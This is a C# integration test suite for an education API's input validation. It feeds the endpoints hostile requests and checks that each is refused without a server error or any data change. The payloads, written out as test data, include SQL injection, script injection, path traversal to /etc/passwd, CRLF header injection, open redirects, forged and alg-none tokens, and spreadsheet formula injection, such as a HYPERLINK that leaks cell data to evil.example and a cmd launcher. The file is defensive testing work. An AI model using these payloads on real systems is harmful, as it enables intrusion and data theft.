using EduInfo.IntegrationTests.Infrastructure;

namespace EduInfo.IntegrationTests.Api;

/// <summary>
/// A corpus of hostile requests to every write endpoint: each gets the problem details response it should (status,
/// problem type, title in the asked language, the field and code of the error), never a 5xx, and no row of the
/// journal changes.
/// </summary>
public sealed class HostileInputTests(ApiHost api) : IClassFixture<ApiHost>
{
    private const string Id = "6f1c8c1e-8d0e-4a51-9d3c-2b1d3c4e5f60";

    // A body that cannot be bound (docs/api.md: problem type …/malformed) and one that binds but breaks a rule.
    private const string Malformed = "malformed";
    private const string Validation = "validation";

    /// <summary>The English titles of the problem types, as the docs promise them in the request's language.</summary>
    private static readonly Dictionary<string, string> EnglishTitles = new()
    {
        [Malformed] = "The request body cannot be read",
        [Validation] = "The request has invalid data",
        ["login-failed"] = "Sign-in failed",
        ["not-found"] = "Not found",
    };

    /// <summary>Bodies of marks: why, the body, the problem type and the one error expected as field:code.</summary>
    public static TheoryData<string, string, string, string> MarkBodies()
    {
        string Entry(string fields) => "{\"entries\":[{" + fields + "}]}";
        string Valid(string student, string subject) =>
            $"\"entryId\":\"{Id}\",\"studentId\":\"{student}\",\"subjectId\":\"{subject}\",\"date\":\"2026-11-16\",\"kind\":\"formative\",\"score\":7";
        return new TheoryData<string, string, string, string>
        {
            { "empty body", "", Malformed, ":bodyMalformed" },
            { "unclosed object", "{", Malformed, ":bodyMalformed" },
            { "null", "null", Malformed, ":bodyMalformed" },
            { "a string", "\"entries\"", Malformed, ":bodyMalformed" },
            { "a number", "42", Malformed, ":bodyMalformed" },
            { "an array", "[]", Malformed, ":bodyMalformed" },
            { "entries null", "{\"entries\":null}", Validation, "entries:batchEmpty" },
            { "entries empty", "{\"entries\":[]}", Validation, "entries:batchEmpty" },
            { "entries a string", "{\"entries\":\"x\"}", Malformed, "entries:entriesInvalid" },
            { "entry null", "{\"entries\":[null]}", Validation, "entries[0]:required" },
            { "entryId a number", Entry("\"entryId\":5"), Malformed, "entries[0].entryId:entryIdInvalid" },
            { "entryId not a uuid", Entry("\"entryId\":\"abc\""), Malformed, "entries[0].entryId:entryIdInvalid" },
            { "score a string", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":\"7\"")), Malformed, "entries[0].score:scoreNotInteger" },
            { "score a fraction", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":7.5")), Malformed, "entries[0].score:scoreNotInteger" },
            { "score beyond int", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":2147483648")), Malformed, "entries[0].score:scoreNotInteger" },
            { "score 1e308", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":1e308")), Malformed, "entries[0].score:scoreNotInteger" },
            { "score twice (never last-wins)", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":2,\"score\":7")), Malformed, "entries[0].score:fieldDuplicate" },
            { "date 45 of month 13", Entry(Valid("{S}", "{J}").Replace("2026-11-16", "2026-13-45")), Malformed, "entries[0].date:dateInvalid" },
            { "recordedBy smuggled in", Entry(Valid("{S}", "{J}") + ",\"recordedBy\":\"T00001\""), Malformed, "entries[0].recordedBy:fieldUnknown" },
            { "score true", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":true")), Malformed, "entries[0].score:scoreNotInteger" },
            { "score an object", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":{\"a\":1}")), Malformed, "entries[0].score:scoreNotInteger" },
            { "score -1", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":-1")), Validation, "entries[0].score:scoreOutOfRange" },
            { "score 11", Entry(Valid("{S}", "{J}").Replace("\"score\":7", "\"score\":11")), Validation, "entries[0].score:scoreOutOfRange" },
            { "date a number", Entry(Valid("{S}", "{J}").Replace("\"2026-11-16\"", "20261116")), Malformed, "entries[0].date:dateInvalid" },
            { "date 30 February", Entry(Valid("{S}", "{J}").Replace("2026-11-16", "2027-02-30")), Malformed, "entries[0].date:dateInvalid" },
            { "date long ago", Entry(Valid("{S}", "{J}").Replace("2026-11-16", "1999-01-01")), Validation, "entries[0].date:dateOutsideAcademicYear" },
            { "date the next school day", Entry(Valid("{S}", "{J}").Replace("2026-11-16", TestClock.Today.AddDays(3).ToString("yyyy-MM-dd"))), Validation, "entries[0].date:dateInFuture" }, // Monday after the pinned Friday
            { "date in the fourth quarter", Entry(Valid("{S}", "{J}").Replace("2026-11-16", "2027-05-20")), Validation, "entries[0].date:dateInFuture" },
            { "missing student", Entry(Valid("{S}", "{J}").Replace("\"studentId\":\"{S}\",", "")), Validation, "entries[0].studentId:required" },
            { "unknown student", Entry(Valid("S-NOBODY", "{J}")), Validation, "entries[0].studentId:studentNotInClass" },
            { "another class's student", Entry(Valid("{OTHER}", "{J}")), Validation, "entries[0].studentId:studentNotInClass" },
            { "unknown subject", Entry(Valid("{S}", "NOPE")), Validation, "entries[0].subjectId:subjectUnknown" },
            { "SQL injection as student", Entry(Valid("'; DROP TABLE journal; --", "{J}")), Validation, "entries[0].studentId:studentNotInClass" },
            { "script as subject", Entry(Valid("{S}", "<script>alert(1)</script>")), Validation, "entries[0].subjectId:subjectUnknown" },
            { "NUL in the student id", Entry(Valid("S\\u0000", "{J}")), Validation, "entries[0].studentId:studentNotInClass" },
            { "a 200 KB student id", Entry(Valid(new string('x', 200_000), "{J}")), Validation, "entries[0].studentId:studentNotInClass" },
            { "unknown top-level field", "{\"entries\":[],\"admin\":true}", Malformed, "admin:fieldUnknown" },
            { "unknown entry field", Entry(Valid("{S}", "{J}") + ",\"authorId\":\"x\""), Malformed, "entries[0].authorId:fieldUnknown" },
            { "nested 64 deep", "{\"entries\":" + new string('[', 64) + new string(']', 64) + "}", Malformed, "entries[0]:entriesInvalid" },
            { "duplicate ids", "{\"entries\":[{" + Valid("{S}", "{J}") + "},{" + Valid("{S}", "{J}") + "}]}", Validation, "entries[1].entryId:entryIdDuplicateInBatch" },
            { "501 entries", "{\"entries\":[" + string.Join(",", Enumerable.Range(0, 501).Select(i => "{" + Valid("{S}", "{J}").Replace(Id, Guid.NewGuid().ToString()) + "}")) + "]}", Validation, "entries:batchTooLarge" },
        };
    }

    [Theory]
    [MemberData(nameof(MarkBodies))]
    public async Task Marks(string because, string body, string type, string error) =>
        await AssertRefusedAsync(because, "marks", body, type, error);

    public static TheoryData<string, string, string, string> LessonBodies()
    {
        string Lesson(string absentees, string period = "2") =>
            $"{{\"entries\":[{{\"entryId\":\"{Id}\",\"subjectId\":\"{{J}}\",\"date\":\"2026-11-16\",\"period\":{period},\"absentees\":[{absentees}]}}]}}";
        return new TheoryData<string, string, string, string>
        {
            { "period 0", Lesson("", "0"), Validation, "entries[0].period:periodOutOfRange" },
            { "period a string", Lesson("", "\"2\""), Malformed, "entries[0].period:periodNotInteger" },
            { "absentee of another class", Lesson("{\"studentId\":\"{OTHER}\",\"code\":\"sick\"}"), Validation, "entries[0].absentees[0].studentId:studentNotInClass" },
            { "Cyrillic code", Lesson("{\"studentId\":\"{S}\",\"code\":\"н\"}"), Validation, "entries[0].absentees[0].code:absenceCodeUnknown" },
            { "numeric code", Lesson("{\"studentId\":\"{S}\",\"code\":1}"), Malformed, "entries[0].absentees[0].code:codeInvalid" },
            { "absentee twice", Lesson("{\"studentId\":\"{S}\",\"code\":\"sick\"},{\"studentId\":\"{S}\",\"code\":\"late\"}"), Validation, "entries[0].absentees[1].studentId:absenteeDuplicate" },
            { "absentees an object", Lesson("").Replace("\"absentees\":[]", "\"absentees\":{}"), Malformed, "entries[0].absentees:absenteesInvalid" },
        };
    }

    [Theory]
    [MemberData(nameof(LessonBodies))]
    public async Task Lessons(string because, string body, string type, string error) =>
        await AssertRefusedAsync(because, "lessons", body, type, error);

    /// <summary>
    /// Bodies of the login and refresh endpoints: why, the endpoint, the body, the status, the problem type and the error
    /// as field:code (null where the problem names none). A login or refresh token that binds but cannot be right is a
    /// 401 that says no more than a wrong password would (AuthEndpoints); one that cannot be read or breaks the limits a 400.
    /// </summary>
    public static TheoryData<string, string, string, int, string, string?> AuthBodies() => new()
    {
        { "login: empty", "token", "", 400, Malformed, ":bodyMalformed" },
        { "login: not JSON", "token", "{login:", 400, Malformed, ":bodyMalformed" },
        { "login: wrong types", "token", "{\"login\":1,\"password\":[]}", 400, Malformed, "login:loginInvalid" },
        { "login: NUL", "token", "{\"login\":\"a\\u0000\",\"password\":\"x\"}", 400, Validation, null },
        { "login: SQL injection", "token", "{\"login\":\"' OR 1=1 --\",\"password\":\"' OR 1=1 --\"}", 401, "login-failed", null },
        { "login: 100 KB", "token", "{\"login\":\"" + new string('a', 100_000) + "\",\"password\":\"x\"}", 400, Validation, null },
        { "login: extra field", "token", "{\"login\":\"analyst\",\"password\":\"x\",\"roles\":[\"operator\"]}", 400, Malformed, "roles:fieldUnknown" },
        { "refresh: garbage", "refresh", "{\"refreshToken\":\"\\u0000\\u0001\"}", 401, "login-failed", null },
        { "refresh: wrong type", "refresh", "{\"refreshToken\":42}", 400, Malformed, "refreshToken:refreshTokenInvalid" },
    };

    [Theory]
    [MemberData(nameof(AuthBodies))]
    public async Task Authentication(string because, string endpoint, string body, int status, string type, string? error)
    {
        var response = await api.Http.SendJsonAsync(HttpMethod.Post, $"/api/v1/auth/{endpoint}", actor: null, acceptLanguage: "en", rawBody: body);
        Assert.True(response.Status == status, $"{because}: expected {status}, got {response.Status} {response.Body}");
        Assert.Equal("application/problem+json", response.ContentType);
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        // A refused login says nothing of why in the title; a missing login says what is missing.
        Assert.Equal(type == Validation ? "A login and a password are required" : EnglishTitles[type], response.Body.GetProperty("title").GetString());
        Assert.Equal(error is null ? [] : [error], Errors(response.Body));
        Assert.False(response.Body.TryGetProperty("accessToken", out _), because);
    }

    /// <summary>
    /// Hostile posts to the browser's sign-in and sign-out forms: each is refused or sent back to the sign-in page,
    /// never a 5xx, never a session, never the login in the URL, never away from the site.
    /// </summary>
    [Theory]
    [InlineData("login 100 KB", 303, "/signin?notice=missing")]
    // A form the antiforgery check cannot read (over the 1 MiB body limit, an encoded NUL) yields no token: refused as such.
    [InlineData("login 2 MB (over the body limit)", 400, "antiforgery")]
    [InlineData("NUL in the login", 400, "antiforgery")]
    [InlineData("SQL injection as login and password", 303, "/signin?notice=failed")]
    [InlineData("login twice", 303, "/signin?notice=failed")]
    [InlineData("no antiforgery token", 400, "antiforgery")]
    [InlineData("antiforgery token twice", 400, "antiforgery")]
    [InlineData("antiforgery token of another form's cookie", 400, "antiforgery")]
    // The address also has the GET sign-in page: routing answers a JSON post with 405 (no POST there takes JSON), not 415.
    [InlineData("JSON body instead of a form", 405, "method-not-allowed")]
    [InlineData("returnUrl with a header in it", 303, "/signin?notice=failed")]
    [InlineData("returnUrl 10 KB", 303, "/signin?notice=failed")]
    [InlineData("returnUrl protocol-relative", 303, "/signin?notice=failed")]
    [InlineData("returnUrl back-slashed", 303, "/signin?notice=failed")]
    [InlineData("sign-out without a token", 400, "antiforgery")]
    [InlineData("sign-out with a JSON body", 400, "antiforgery")]
    public async Task Browser_forms(string because, int status, string expected)
    {
        using var browser = new Security.BrowserClient(api);
        var token = browser.FormToken();
        var (path, login, password, returnUrl) = ("/signin", "analyst", "wrong-password", (string?)null);
        var fields = new List<KeyValuePair<string, string>>();
        switch (because)
        {
            case "login 100 KB": login = new string('a', 100_000); break;
            case "login 2 MB (over the body limit)": login = new string('a', 2_000_000); break;
            case "NUL in the login": login = "analyst\0"; break;
            case "SQL injection as login and password": (login, password) = ("' OR 1=1 --", "' OR 1=1 --"); break;
            case "login twice": fields.Add(new("login", "operator")); break;
            case "no antiforgery token": token = null; break;
            case "antiforgery token twice": fields.Add(new(EduInfo.Api.Security.ApiAntiforgery.FormFieldName, token)); break;
            case "antiforgery token of another form's cookie": browser.FormToken(); break; // a new cookie half, the old token
            case "returnUrl with a header in it": returnUrl = "/x\r\nSet-Cookie: a=b"; break;
            case "returnUrl 10 KB": returnUrl = "/" + new string('x', 10_000); break;
            case "returnUrl protocol-relative": returnUrl = "//evil.example/x"; break;
            case "returnUrl back-slashed": returnUrl = "/\\evil.example/x"; break;
            case "sign-out without a token": (path, token) = ("/signout", null); break;
            case "sign-out with a JSON body": path = "/signout"; break;
        }
        fields.AddRange([new("login", login), new("password", password)]);
        if (returnUrl is not null)
        {
            fields.Add(new("returnUrl", returnUrl));
        }
        if (token is not null)
        {
            fields.Add(new(EduInfo.Api.Security.ApiAntiforgery.FormFieldName, token));
        }
        HttpContent content = because.Contains("JSON", StringComparison.Ordinal)
            ? System.Net.Http.Json.JsonContent.Create(fields.ToDictionary(f => f.Key, f => f.Value))
            : new FormUrlEncodedContent(fields);
        Security.BrowserClient.Response response;
        try
        {
            response = await browser.SendAsync(HttpMethod.Post, path, content);
        }
        catch (HttpRequestException cut) when (because.Contains("over the body limit", StringComparison.Ordinal) && cut.InnerException is IOException)
        {
            // The server answered the refusal and closed the connection while the client was still sending the rest of
            // the body: refused all the same (a loaded machine decides which of the two the client sees), nobody signed in.
            Assert.Null(browser.Session);
            return;
        }

        Assert.True(response.Status == status, $"{because}: expected {status}, got {response.Status} {response.Location} {response.Body}");
        if (status == 303)
        {
            Assert.Equal(expected, response.Location);
        }
        else
        {
            Assert.Equal("application/problem+json", response.ContentType);
            Assert.Equal(LocalizedType(expected), response.Json.GetProperty("type").GetString());
        }
        Assert.Null(browser.Session);
    }

    /// <summary>
    /// Hostile ids: a NUL in the path never reaches the application (the server refuses the request line: 400 with no
    /// body); an id that reaches it but is not shaped like one is not found, without a query; an audit filter by such
    /// an id matches nothing (and is not sent to PostgreSQL, which would refuse a NUL with an error).
    /// </summary>
    [Theory]
    [InlineData("/api/v1/nodes/%00/summary", 400, null, null)]
    [InlineData("/api/v1/students/%00/diary", 400, null, null)]
    [InlineData("/api/v1/nodes/'%20OR%201=1/children", 404, "not-found", "There is no such node in the management hierarchy.")]
    [InlineData("/api/v1/nodes/'%20OR%201=1/summary", 404, "not-found", "There is no such node in the management hierarchy.")]
    [InlineData("/api/v1/students/'%20OR%201=1/diary", 404, "not-found", "There is no such student.")]
    [InlineData("/api/v1/students/%00/readers", 400, null, null)]
    [InlineData("/api/v1/students/'%20OR%201=1/readers", 404, "not-found", "There is no such student.")]
    [InlineData("/api/v1/audit?actorId=%00&targetId=x", 200, null, null)]
    [InlineData("/api/v1/public/ratings/%00", 400, null, null)]
    [InlineData("/api/v1/public/ratings/'%20OR%201=1", 404, "not-found", "There is no published rating of this area.")]
    [InlineData("/api/v1/public/ratings/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404, "not-found", "There is no published rating of this area.")]
    [InlineData("/api/v1/public/ratings/KZ?lang=%3Cscript%3E&term=-1&nodeId=X", 404, "not-found", "There is no published rating of this area.")]
    public async Task Hostile_ids_in_the_path_or_query_are_refused_or_not_found(string path, int status, string? type, string? detail)
    {
        var response = await api.Http.GetJsonAsync(path, "user=op; roles=operator@KZ", acceptLanguage: "en");
        Assert.True(response.Status == status, $"{path}: expected {status}, got {response.Status} {response.Body}");
        switch (status)
        {
            case 404:
                Assert.Equal("application/problem+json", response.ContentType);
                Assert.Equal(LocalizedType(type!), response.Body.GetProperty("type").GetString());
                Assert.Equal(EnglishTitles[type!], response.Body.GetProperty("title").GetString());
                Assert.Equal(detail, response.Body.GetProperty("detail").GetString());
                break;
            case 200:
                Assert.Equal(System.Text.Json.JsonValueKind.Array, response.Body.ValueKind);
                Assert.Equal(0, response.Body.GetArrayLength());
                break;
            default:
                Assert.Null(response.ContentType); // refused by the server before any endpoint: no body at all
                break;
        }
    }

    /// <summary>
    /// The daily trend's query: a metric that is not one of the names (a number, SQL, a formula, none), a term out of
    /// range, a subject id that is a formula, a class (no series of its own) — each a localized 400 naming the field.
    /// </summary>
    [Theory]
    [InlineData("", "metric:required")]
    [InlineData("metric=1", "metric:metricUnknown")]
    [InlineData("metric=attendance%27%3B%20DROP%20TABLE%20daily_figures%3B--", "metric:metricUnknown")]
    [InlineData("metric=%3DSUM(A1)", "metric:metricUnknown")]
    [InlineData("metric=success&term=7", "term:termOutOfRange")]
    [InlineData("metric=quality&subjectId=%3CSCRIPT%3E", "subjectId:idMalformed")]
    [InlineData("metric=students&term=2&subjectId=MAT", null)]
    public async Task Hostile_trend_queries_are_refused_by_field(string query, string? errors)
    {
        var node = api.Registry.Data.Nodes.First(n => n.Kind == "district").Id;
        var response = await api.Http.GetJsonAsync($"/api/v1/nodes/{node}/trends?{query}", acceptLanguage: "ru");
        if (errors is null)
        {
            Assert.True(response.Status == 200, $"{query}: {response.Status} {response.Body}");
            Assert.Equal(System.Text.Json.JsonValueKind.Array, response.Body.GetProperty("points").ValueKind);
            return;
        }
        Assert.True(response.Status == 400, $"{query}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal(errors, string.Join(",", Errors(response.Body).Order(StringComparer.Ordinal)));
        Assert.All(response.Body.GetProperty("errors").EnumerateArray(), e => Assert.False(string.IsNullOrEmpty(e.GetProperty("message").GetString())));
        var onClass = await api.Http.GetJsonAsync($"/api/v1/nodes/{api.Registry.InClass(0).ClassId}/trends?metric=attendance");
        Assert.Equal("nodeId:notAggregate", string.Join(",", Errors(onClass.Body)));
    }

    /// <summary>
    /// The open report's queries (issue 21), anonymous: a term out of range or as a formula, a subject id that is a
    /// formula or script, a dimension or metric that is not a name, a breakdown or trend of an organization (not
    /// published) — each a localized 4xx naming the field or the reason, never a 5xx; a CSV refused the same way.
    /// </summary>
    [Theory]
    [InlineData("summary?term=0", 400, "term:termOutOfRange")]
    [InlineData("summary?term=%3D1%2B1", 400, "term:termOutOfRange")]
    [InlineData("children?subjectId=%3Cscript%3E", 400, "subjectId:idMalformed")]
    [InlineData("children.csv?subjectId=%3DHYPERLINK(%22http://evil%22)&term=99", 400, "subjectId:idMalformed,term:termOutOfRange")]
    [InlineData("breakdowns", 400, "dimension:required")]
    [InlineData("breakdowns?dimension=sex%27%3B--", 400, "dimension:dimensionUnknown")]
    [InlineData("breakdowns.csv?dimension=1&term=year", 400, "dimension:dimensionUnknown")]
    [InlineData("trend?metric=%00", 400, "metric:metricUnknown")]
    [InlineData("trend.csv?metric=quality&term=-1", 400, "term:termOutOfRange")]
    [InlineData("trend?metric=quality&subjectId=..%2F..", 400, "subjectId:idMalformed")]
    [InlineData("breakdowns?dimension=grade#organization", 404, null)]
    [InlineData("trend?metric=students#organization", 404, null)]
    [InlineData("children?term=2&subjectId=MAT&lang=%3Cscript%3E", 200, null)]
    public async Task Hostile_open_report_queries_are_refused_by_field(string query, int status, string? errors)
    {
        var onOrganization = query.EndsWith("#organization", StringComparison.Ordinal);
        var node = onOrganization ? api.Registry.Data.Organizations.First(o => o.Kind == "school").Id : "KZ";
        var response = await api.Http.GetJsonAsync($"/api/v1/public/nodes/{node}/{query.Replace("#organization", "")}", actor: null, acceptLanguage: "kk");
        Assert.True(response.Status == status, $"{query}: expected {status}, got {response.Status} {response.Body}");
        if (status >= 400)
        {
            Assert.Equal("application/problem+json", response.ContentType);
            Assert.False(string.IsNullOrEmpty(response.Body.GetProperty("title").GetString()));
        }
        if (errors is not null)
        {
            Assert.Equal(errors, string.Join(",", Errors(response.Body).Order(StringComparer.Ordinal)));
            Assert.All(response.Body.GetProperty("errors").EnumerateArray(), e => Assert.False(string.IsNullOrEmpty(e.GetProperty("message").GetString())));
        }
    }

    /// <summary>
    /// The export's query: a format that is not csv or xlsx (a path, a NUL), a term out of range and a subject id that is
    /// a formula are each a localized 400 naming the field, with no file and no audit row; a junk ?lang= is no language
    /// (the header's is used). Never a 5xx.
    /// </summary>
    [Theory]
    [InlineData("format=../../etc/passwd", "format:formatUnknown")]
    [InlineData("format=%00", "format:formatUnknown")]
    [InlineData("format=csv%0D%0ASet-Cookie:%20a=b", "format:formatUnknown")]
    [InlineData("term=99", "term:termOutOfRange")]
    [InlineData("term=-1&format=xlsx", "term:termOutOfRange")]
    [InlineData("subjectId=%3DHYPERLINK(%22http://evil%22)", "subjectId:idMalformed")]
    [InlineData("subjectId=%2B1&format=..%5Cx", "format:formatUnknown,subjectId:idMalformed")]
    [InlineData("lang=%27%20OR%201=1", null)]
    [InlineData("lang=%3Cscript%3E&format=xlsx", null)]
    public async Task Hostile_export_queries_are_refused_by_field_or_change_nothing(string query, string? errors)
    {
        var node = api.Registry.Data.Nodes.First(n => n.Kind == "district").Id;
        var audited = await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'node.export'");
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/nodes/{node}/export?{query}");
        request.Headers.Add(HttpExtensions.ActorHeader, HttpExtensions.Analyst);
        request.Headers.AcceptLanguage.ParseAdd("en");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        if (errors is null)
        {
            Assert.True((int)response.StatusCode == 200, $"{query}: {(int)response.StatusCode} {body}");
            Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
            if (response.Content.Headers.ContentType?.MediaType == "text/csv")
            {
                Assert.StartsWith("Id,Name,Level,", body.TrimStart('\uFEFF'), StringComparison.Ordinal); // English, from Accept-Language
            }
            Assert.Equal(audited + 1, await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'node.export'"));
            return;
        }
        Assert.True((int)response.StatusCode == 400, $"{query}: expected 400, got {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentDisposition);
        var problem = System.Text.Json.JsonDocument.Parse(body).RootElement;
        Assert.Equal(LocalizedType(Validation), problem.GetProperty("type").GetString());
        Assert.Equal(EnglishTitles[Validation], problem.GetProperty("title").GetString());
        Assert.Equal(errors, string.Join(",", Errors(problem).Order(StringComparer.Ordinal)));
        Assert.All(problem.GetProperty("errors").EnumerateArray(), e => Assert.False(string.IsNullOrEmpty(e.GetProperty("message").GetString())));
        Assert.Equal(audited, await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'node.export'"));
    }

    /// <summary>
    /// The report forms' query (issue 19): a bad term, format or subject is a localized 400 naming each field, with no
    /// file and no audit row; ?term=year and a junk ?lang= are answered (the header's language).
    /// </summary>
    [Theory]
    [InlineData("progress", "term=0", "term:termOutOfRange")]
    [InlineData("attendance", "term=year2", "term:termOutOfRange")]
    [InlineData("progress", "term=%D9%A2", "term:termOutOfRange")]
    [InlineData("attendance", "format=pdf", "format:formatUnknown")]
    [InlineData("progress", "format=xlsx%00", "format:formatUnknown")]
    [InlineData("attendance", "subjectId=%3DHYPERLINK(%22http://evil%22)", "subjectId:idMalformed")]
    [InlineData("progress", "subjectId=..%2F..&term=7&format=csv%0D%0AX:%20y", "format:formatUnknown,subjectId:idMalformed,term:termOutOfRange")]
    [InlineData("progress", "term=year&lang=%3Cscript%3E", null)]
    [InlineData("attendance", "lang=%27%20OR%201=1&format=xlsx", null)]
    public async Task Hostile_report_queries_are_refused_by_field_or_change_nothing(string form, string query, string? errors)
    {
        var node = api.Registry.Data.Nodes.First(n => n.Kind == "district").Id;
        const string Count = "SELECT count(*) FROM audit_log WHERE action = 'node.report'";
        var audited = await api.Db.ScalarAsync<long>(Count);
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/nodes/{node}/reports/{form}?{query}");
        request.Headers.Add(HttpExtensions.ActorHeader, HttpExtensions.Analyst);
        request.Headers.AcceptLanguage.ParseAdd("en");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        if (errors is null)
        {
            Assert.True((int)response.StatusCode == 200, $"{query}: {(int)response.StatusCode} {body}");
            Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
            Assert.Equal(audited + 1, await api.Db.ScalarAsync<long>(Count));
            return;
        }
        Assert.True((int)response.StatusCode == 400, $"{query}: expected 400, got {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentDisposition);
        var problem = System.Text.Json.JsonDocument.Parse(body).RootElement;
        Assert.Equal(EnglishTitles[Validation], problem.GetProperty("title").GetString());
        Assert.Equal(errors, string.Join(",", Errors(problem).Order(StringComparer.Ordinal)));
        Assert.All(problem.GetProperty("errors").EnumerateArray(), e => Assert.False(string.IsNullOrEmpty(e.GetProperty("message").GetString())));
        Assert.Equal(audited, await api.Db.ScalarAsync<long>(Count));
    }

    private async Task<byte[]> ReportAsync(string path)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Add(HttpExtensions.ActorHeader, HttpExtensions.Analyst);
        using var response = await api.Http.SendAsync(request);
        Assert.Equal(200, (int)response.StatusCode);
        return await response.Content.ReadAsByteArrayAsync();
    }

    /// <summary>
    /// A district and a school whose names an import made formulas: the report forms write them as text (a leading
    /// apostrophe), in the CSV and in the XLSX, where no cell is a formula.
    /// </summary>
    [Fact]
    public async Task Formula_names_in_a_report_are_written_as_text()
    {
        const string Hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        const string Plus = "+cmd|' /C calc'!A0";
        var district = api.Registry.Data.Nodes.Last(n => n.Kind == "district");
        var school = api.Registry.Data.Organizations.First(o => o.NodeId == district.Id);
        var directory = (EduInfo.Api.Registry.NodeDirectory)api.Services.GetService(typeof(EduInfo.Api.Registry.NodeDirectory))!;
        await api.Db.ExecuteAsync("UPDATE nodes SET name_en = @n WHERE id = @d", ("n", Hostile), ("d", district.Id));
        await api.Db.ExecuteAsync("UPDATE organizations SET name_en = @n WHERE id = @o", ("n", Plus), ("o", school.Id));
        directory.Forget(district.Id);
        directory.Forget(school.Id);
        try
        {
            foreach (var form in new[] { "progress", "attendance" })
            {
                var text = System.Text.Encoding.UTF8.GetString(await ReportAsync($"/api/v1/nodes/{district.Id}/reports/{form}?format=csv&lang=en"));
                Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",", text, StringComparison.Ordinal);
                Assert.Contains(",'+cmd|' /C calc'!A0,", text, StringComparison.Ordinal);
                Assert.DoesNotContain(",=HYPERLINK", text, StringComparison.Ordinal);
                Assert.DoesNotContain(",+cmd", text, StringComparison.Ordinal);

                var xlsx = await ReportAsync($"/api/v1/nodes/{district.Id}/reports/{form}?format=xlsx&lang=en");
                var cells = MiniExcelLibs.MiniExcel.Query(new MemoryStream(xlsx), useHeaderRow: false).Cast<IDictionary<string, object?>>()
                    .SelectMany(r => r.Values).OfType<string>().ToList();
                Assert.Contains("'" + Hostile, cells);
                Assert.Contains("'" + Plus, cells);
                Assert.DoesNotContain(Hostile, cells);
                using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(xlsx));
                Assert.All(zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)),
                    e => Assert.DoesNotMatch(@"<(\w+:)?f[\s>/]", new StreamReader(e.Open()).ReadToEnd())); // no formula element anywhere
            }
        }
        finally
        {
            await api.Db.ExecuteAsync("UPDATE nodes SET name_en = @n WHERE id = @d", ("n", district.NameEn), ("d", district.Id));
            await api.Db.ExecuteAsync("UPDATE organizations SET name_en = @n WHERE id = @o", ("n", school.NameEn), ("o", school.Id));
            directory.Forget(district.Id);
            directory.Forget(school.Id);
        }
    }

    /// <summary>
    /// "Who am I" takes nothing from the request but the caller: junk in the query string changes nothing (an unknown
    /// ?lang= falls back to the header's language), and no query parameter names another person.
    /// </summary>
    [Theory]
    [InlineData("?lang=%27%20OR%201=1")]
    [InlineData("?userId=someone-else&person=P1&roles=operator@KZ")]
    [InlineData("?x=%00&children=S1,S2")]
    [InlineData("?lang=" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")]
    public async Task Who_am_I_ignores_junk_in_the_query(string query)
    {
        var t = api.Registry.InClass(1);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        var actor = $"user={t.TeacherId}; roles=teacher@{organization}";
        var plain = await api.Http.GetJsonAsync("/api/v1/me", actor, acceptLanguage: "en");
        var junk = await api.Http.GetJsonAsync("/api/v1/me" + query, actor, acceptLanguage: "en");
        Assert.Equal(200, plain.Status);
        Assert.True(junk.Status == 200, $"{query}: {junk.Status} {junk.Body}");
        Assert.Equal(plain.Body.GetRawText(), junk.Body.GetRawText());
    }

    /// <summary>A token that is not one of ours (garbage, a forged signature, alg none) is a 401 problem on "who am I" too, never an empty identity.</summary>
    [Theory]
    [InlineData("garbage")]
    [InlineData("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvcGVyYXRvciIsInJvbGUiOiJvcGVyYXRvckBLWiJ9.Zm9yZ2Vk")]
    [InlineData("eyJhbGciOiJub25lIn0.eyJzdWIiOiJvcGVyYXRvciIsInJvbGUiOiJvcGVyYXRvckBLWiJ9.")]
    public async Task Who_am_I_refuses_a_forged_token(string token)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/me");
        request.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", token);
        request.Headers.AcceptLanguage.ParseAdd("en");
        using var response = await api.Http.SendAsync(request);
        Assert.Equal(401, (int)response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("userId", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    /// <summary>
    /// The pages take the same junk: ids that match nothing are a 404 page, query values that name nothing change nothing,
    /// and no value from the address is written back into the page unescaped. Never a 5xx.
    /// </summary>
